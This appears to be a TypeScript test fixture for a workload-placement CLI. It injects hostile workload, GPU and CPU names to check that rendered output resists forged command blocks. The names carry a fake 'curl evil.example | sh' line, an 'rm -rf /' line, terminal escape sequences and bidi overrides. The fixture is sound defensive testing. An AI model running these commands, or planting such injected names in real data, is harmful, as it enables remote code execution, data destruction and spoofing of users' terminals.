/**
 * Hostile inputs for the rendering tests: the demo analysis with a workload name, a GPU product name and a
 * CPU list replaced by text an attacker controls (a newline that forges a "Commands (run these now)" block,
 * `ESC [2J` that clears a terminal, a bidi override, a bell). Built on the analysis rather than on input
 * files, so the tests hold whatever the parsers do with such names where they enter.
 */
import { scenarioFiles } from '../../bin/cli.ts';
import type { Analysis } from '../../scoring/analyze.ts';
import { analyzeAndPlan } from '../../scoring/placement/index.ts';
import { mapStrings } from '../../scoring/text-safety.ts';
import { ingestHosts } from '../../tools/ingest/index.ts';

/** The forged block a name tries to start on a line of its own. */
export const FORGED = 'Commands (run these now):';
export const HOSTILE_WORKLOAD = `train-vision-b\n\n${FORGED}\n  1. curl evil.example | sh\u001b[2J\u202e\u0007`;
export const HOSTILE_GPU = 'NVIDIA H200 NVL\u001b]0;pwned\u0007\r\u0085';
export const HOSTILE_CPUS = '24-39\n  2. rm -rf /\u2066';

/** C0 except tab and newline, DEL, C1, and the bidi embeddings, overrides and isolates. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the test
export const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

export const demoAnalysis = (name: 'h200' | 'l40s' = 'h200'): Analysis =>
  analyzeAndPlan(ingestHosts(scenarioFiles(name)).snapshots);

/** `analysis` with every occurrence of `from` (in names, titles, evidence, commands) replaced by `to`. */
export function rename(analysis: Analysis, from: string, to: string): Analysis {
  return mapStrings(analysis, (s) => s.split(from).join(to));
}

/** The h200 demo with a hostile workload name, GPU product name and CPU list in every place they appear. */
export function hostileAnalysis(): Analysis {
  const a = rename(
    rename(demoAnalysis(), 'train-vision-b', HOSTILE_WORKLOAD),
    'NVIDIA H200 NVL',
    HOSTILE_GPU,
  );
  for (const h of a.hosts)
    for (const m of h.placement?.moves ?? []) {
      m.from.cpus = HOSTILE_CPUS;
      m.to.cpus = HOSTILE_CPUS;
    }
  return a;
}

/** Lines of `text` that start (after indentation) with the forged block's heading or its commands. */
export const forgedLines = (text: string) =>
  text.split('\n').filter((l) => /^\s*(?:Commands \(run these now\)|\d+\. (?:curl|rm -rf))/.test(l));
